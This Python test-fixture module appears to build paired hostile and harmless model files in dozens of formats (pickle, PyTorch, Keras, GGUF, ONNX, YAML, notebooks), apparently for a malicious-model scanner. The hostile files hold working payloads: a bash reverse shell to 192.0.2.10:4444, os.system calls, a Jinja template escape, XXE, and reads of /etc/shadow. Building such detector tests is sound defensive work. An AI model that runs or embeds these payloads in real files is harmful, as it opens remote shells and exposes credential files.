"""For each format that can carry code, a hostile file and its honest twin: the same file but for the payload.

What the twin lacks is only what the hostile one does. The keys are the names of formats; behind a comma, which of
several ways. Formats in which nothing can run have no pair.
"""

import base64
import importlib.util
import json
import marshal
import pickle
import struct
from collections.abc import Callable
from typing import Any, NamedTuple

import msgpack

from tests.recipes import (
    archives,
    columns,
    coreml,
    frameworks,
    graphs,
    keras_files,
    robjects,
    skops_files,
    tensors,
    xml,
)
from tests.recipes.flatbuffers import tflite
from tests.recipes.payloads import PAYLOADS
from tests.recipes.protobufs import message
from tests.recipes.streams import call, stream
from tests.recipes.twins import TWINS

SHELL = "bash -c 'bash -i >& /dev/tcp/192.0.2.10/4444 0>&1'"
RUN = stream(call("posix.system", SHELL), 2)
STATE = pickle.dumps({"epoch": 3, "loss": [0.5, 0.25]}, 2)
TEMPLATE = "{% for m in messages %}{{ m['content'] | trim }}{% endfor %}"
ESCAPE = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
SOURCE = f"import os\nos.system({SHELL!r})\n"
COMPUTES = "import math\nSIZE = math.prod((2, 3))\n"
SECRET, BESIDE = "/etc/shadow", "vocabulary.txt"


class Pair(NamedTuple):
    """What the file is called, and its content both ways."""

    name: str
    hostile: bytes
    honest: bytes


def onnx(location: str) -> bytes:
    """A graph whose weights lie in another file."""
    place = message((1, "location"), (2, location))
    tensor = message((1, 2), (2, 1), (8, "w"), (13, place), (14, 1))
    graph = message((1, message((1, "w"), (2, "y"), (4, "Relu"))), (5, tensor), (2, "main"))
    return message((1, 8), (7, graph), (8, message((2, 18))))


def onnx_tensor(location: str) -> bytes:
    return message((1, 2), (2, 1), (8, "w"), (13, message((1, "location"), (2, location))), (14, 1))


def tensorflow(path: str) -> bytes:
    """A SavedModel that reads a file."""
    return graphs.saved(graphs.graph(graphs.const("path", path), graphs.node("read", "ReadFile", "path")))


def pbtxt(path: str) -> bytes:
    tensor = f'tensor {{ dtype: DT_STRING tensor_shape {{ }} string_val: "{path}" }}'
    const = f'node {{ name: "path" op: "Const" attr {{ key: "value" value {{ {tensor} }} }} }}'
    return (const + '\nnode { name: "read" op: "ReadFile" input: "path" }\n').encode()


def gguf(template: str) -> bytes:
    key, text = b"tokenizer.chat_template", template.encode()
    head = b"GGUF" + struct.pack("<IQQQ", 3, 0, 1, len(key)) + key + struct.pack("<IQ", 8, len(text)) + text
    return head + bytes(-len(head) % 32)


def compiled(source: str) -> bytes:
    return marshal.dumps(compile(source, "module.py", "exec"))


def metadata(module: str, name: str) -> bytes:
    """What Keras 2 keeps beside a SavedModel."""
    config = json.dumps({"module": module, "class_name": name, "config": {"units": 3}})
    return message((1, message((2, 1), (3, "root"), (4, "_tf_keras_layer"), (5, config))))


def arrow(content: bytes | None) -> columns.Table:
    """A schema with a column of an extension type, or of a plain one."""
    marks = {} if content is None else columns.extension(b"arrow.py_extension_type", content)
    return columns.schema(columns.column(b"x", marks))


def packed(hook: str | None) -> bytes:
    """An array as ``msgpack_numpy`` packs it, of numbers or of objects."""
    content = bytes(8) if hook is None else RUN
    return msgpack.packb(
        {
            b"nd": True,
            b"type": "<f8" if hook is None else "O",
            b"kind": b"" if hook is None else b"O",
            b"shape": (1,),
            b"data": content,
        }
    )


def notebook(*lines: str) -> bytes:
    cell = {
        "cell_type": "code",
        "source": list(lines),
        "metadata": {},
        "outputs": [],
        "execution_count": None,
    }
    return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


def llamafile(template: str) -> bytes:
    program = b"MZqFpD='\n" + bytes(60) + b'\n\' exec "$o" "$@"\n' + bytes(200)
    return program + archives.zipped({"weights.gguf": gguf(template), ".args": b"-m\nweights.gguf\n"})


def keras(*layers: dict[str, Any]) -> dict[str, Any]:
    return keras_files.sequential(keras_files.layer("InputLayer", batch_shape=[None, 4]), *layers)


def carried(function: Callable[[Any], Any]) -> dict[str, Any]:
    """A Lambda layer as Keras 3 writes it."""
    code = base64.b64encode(marshal.dumps(function.__code__)).decode()
    function_config = {
        "class_name": "__lambda__",
        "config": {"code": code, "defaults": None, "closure": None},
    }
    return keras_files.layer("Lambda", function=function_config)


LAMBDA = carried(lambda x: __import__("os").system("id > /dev/tcp/192.0.2.10/4444") or x)
DENSE = carried(lambda x: x / 255.0 - 0.5)
FLOATS = archives.safetensors(b'{"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}', bytes(4))
COMPUTE = {"op": "FullyConnected", "name": "fc", "attrs": {"num_hidden": "3"}, "inputs": [[0, 0, 0]]}
NATIVE = {"op": "_Native", "name": "n", "attrs": {"info": "0x7f2a10"}, "inputs": [[0, 0, 0]]}
SUFFIXES = {"gzip": ".gz", "bz2": ".bz2", "xz": ".xz", "zlib": ".z", "lz4": ".lz4", "zstd": ".zst"}
FORMULA = f"__import__('os').system({SHELL!r})"

PAIRS: dict[str, Pair] = {
    "pickle": Pair("state.pkl", RUN, STATE),
    "pickle, joblib": Pair(
        "forest.joblib", frameworks.beside_arrays(frameworks.raw(RUN)), frameworks.beside_arrays(3)
    ),
    "pytorch-zip": Pair("weights.pt", archives.torch_zip(RUN), archives.torch_zip(STATE)),
    "tar, oldest PyTorch": Pair("weights.pth", frameworks.oldest(pickle=RUN), frameworks.oldest()),
    "tar, NeMo": Pair(
        "speech.nemo",
        archives.tarred(
            {"model_config.yaml": f"a: {{_target_: os.system, _args_: [{json.dumps(SHELL)}]}}\n".encode()}
        ),
        archives.tarred(
            {"model_config.yaml": b"a: {_target_: torch.nn.Linear, in_features: 3, out_features: 2}\n"}
        ),
    ),
    "pytorch-zip, TorchServe": Pair("digits.mar", frameworks.mar(SOURCE), frameworks.mar(COMPUTES)),
    "zip, NumPy": Pair(
        "arrays.npz",
        archives.zipped({"a.npy": archives.npy("'|O'", "(1,)", RUN)}),
        archives.zipped({"a.npy": archives.npy("'<f8'", "(1,)", bytes(8))}),
    ),
    "sevenzip": Pair(
        "weights.7z", archives.seven_zip({"data.pkl": RUN}), archives.seven_zip({"data.pkl": STATE})
    ),
    **{
        name: Pair(f"state.pkl{SUFFIXES[name]}", compress(RUN), compress(STATE))
        for name, compress in archives.COMPRESSED.items()
        if name in SUFFIXES
    },
    "numpy": Pair("array.npy", archives.npy("'|O'", "(1,)", RUN), archives.npy("'<f8'", "(1,)", bytes(8))),
    "safetensors": Pair("weights.safetensors", FLOATS + RUN, FLOATS),
    "hdf5, PyTables": Pair("table.h5", keras_files.objects(RUN), keras_files.objects(STATE)),
    "hdf5, external link": Pair("weights.hdf5", keras_files.linked(SECRET), keras_files.linked("part.hdf5")),
    "keras-config, .keras": Pair(
        "net.keras", keras_files.archive(keras(LAMBDA)), keras_files.archive(keras(DENSE))
    ),
    "keras-config, HDF5": Pair("net.h5", keras_files.legacy(keras(LAMBDA)), keras_files.legacy(keras(DENSE))),
    "keras-metadata": Pair("keras_metadata.pb", metadata("os", "system"), metadata("keras.layers", "Dense")),
    "torch-export": Pair("program.pt2", frameworks.exported(formula=FORMULA), frameworks.exported()),
    "paddle": Pair(
        "net.pdmodel", frameworks.pdmodel("save", "/root/.bashrc"), frameworks.pdmodel("load", "w_0")
    ),
    "paddle-pir": Pair(
        "net.json", frameworks.pir("save_combine", "/root/.bashrc"), frameworks.pir("load", "w_0")
    ),
    "gguf": Pair("chat.gguf", gguf(ESCAPE), gguf(TEMPLATE)),
    "executable, llamafile": Pair("chat.llamafile", llamafile(ESCAPE), llamafile(TEMPLATE)),
    "onnx": Pair("net.onnx", onnx(SECRET), onnx("weights.bin")),
    "onnx-tensor": Pair("weights.pb", onnx_tensor(SECRET), onnx_tensor("weights.bin")),
    "tensorflow": Pair("saved_model.pb", tensorflow(SECRET), tensorflow(BESIDE)),
    "tensorflow-text": Pair("graph.pbtxt", pbtxt(SECRET), pbtxt(BESIDE)),
    "tflite": Pair(
        "net.tflite",
        tflite(("FlexReadFile", b"\x08ReadFile\0", [0]), texts=(SECRET,)),
        tflite(("FlexReadFile", b"\x08ReadFile\0", [0]), texts=(BESIDE,)),
    ),
    "mxnet": Pair("net-symbol.json", tensors.symbol(COMPUTE, NATIVE), tensors.symbol(COMPUTE)),
    "executorch": Pair(
        "net.pte",
        tensors.whole(tensors.executorch("aten::add", "aten::save")),
        tensors.whole(tensors.executorch("aten::add")),
    ),
    "xgboost": Pair("booster.ubj", tensors.ubj(tensors.booster()) + RUN, tensors.ubj(tensors.booster())),
    "catboost": Pair("booster.cbm", tensors.catboost() + RUN, tensors.catboost()),
    "skops": Pair(
        "pipeline.skops",
        skops_files.archive(
            skops_files.called(skops_files.node("FunctionNode", "os", "system"), skops_files.value(SHELL))
        ),
        skops_files.archive(
            skops_files.instance(
                "sklearn.linear_model._base", "LinearRegression", fit_intercept=skops_files.value(True)
            )
        ),
    ),
    "arrow": Pair("train.arrow", columns.arrow_stream(arrow(RUN)), columns.arrow_stream(arrow(None))),
    "parquet": Pair(
        "train.parquet",
        columns.parquet(metadata=columns.arrow_schema(arrow(RUN))),
        columns.parquet(metadata=columns.arrow_schema(arrow(None))),
    ),
    "msgpack": Pair("state.msgpack", packed("O"), packed(None)),
    "coreml": Pair(
        "net.mlmodel",
        coreml.coreml(coreml.PROGRAM, coreml.program(SECRET)),
        coreml.coreml(coreml.PROGRAM, coreml.program("@model_path/weights/weight.bin")),
    ),
    "pmml": Pair(
        "regression.pmml",
        xml.document(xml.pmml("&x;"), f'<!DOCTYPE r [<!ENTITY x SYSTEM "file://{SECRET}">]>'),
        xml.document(xml.pmml()),
    ),
    "openvino": Pair(
        "net.xml",
        xml.document(xml.openvino(), f'<!DOCTYPE r SYSTEM "file://{SECRET}">'),
        xml.document(xml.openvino()),
    ),
    "r-data": Pair(
        "regression.rds",
        robjects.serialized([1.0, robjects.Promise(robjects.call("system", SHELL))]),
        robjects.serialized([1.0, "two"]),
    ),
    "jinja": Pair("chat_template.jinja", ESCAPE.encode(), TEMPLATE.encode()),
    "yaml": Pair(
        "config.yaml",
        f"a: !!python/object/apply:os.system [{json.dumps(SHELL)}]\n".encode(),
        b"a: !!python/tuple [1, 2]\n",
    ),
    "hub-config": Pair(
        "config.json",
        b'{"hidden_size": 8, "_attn_implementation_internal": "someone/kernel"}',
        b'{"hidden_size": 8, "_attn_implementation_internal": "sdpa"}',
    ),
    "hub-config, chat template": Pair(
        "tokenizer_config.json",
        json.dumps({"chat_template": ESCAPE}).encode(),
        json.dumps({"chat_template": TEMPLATE}).encode(),
    ),
    "shard-index": Pair(
        "weights.safetensors.index.json",
        json.dumps({"metadata": {}, "weight_map": {"a": SECRET}}).encode(),
        json.dumps({"metadata": {}, "weight_map": {"a": "weights-00001-of-00002.safetensors"}}).encode(),
    ),
    "sentence-transformers": Pair(
        "modules.json",
        b'[{"idx": 0, "name": "0", "path": "weights.pkl", "type": "sklearn.joblib"}]',
        b'[{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}]',
    ),
    "python": Pair(
        "questions.py", PAYLOADS["remote-shell"]["dev-tcp"].encode(), TWINS["remote-shell"].encode()
    ),
    "notebook": Pair("train.ipynb", notebook("!", SHELL), notebook("import math\n", "math.prod((2, 3))")),
    "pyc": Pair(
        "module.pyc",
        importlib.util.MAGIC_NUMBER + bytes(12) + compiled(SOURCE),
        importlib.util.MAGIC_NUMBER + bytes(12) + compiled(COMPUTES),
    ),
    "marshal": Pair("code.bin", compiled(SOURCE), compiled(COMPUTES)),
}
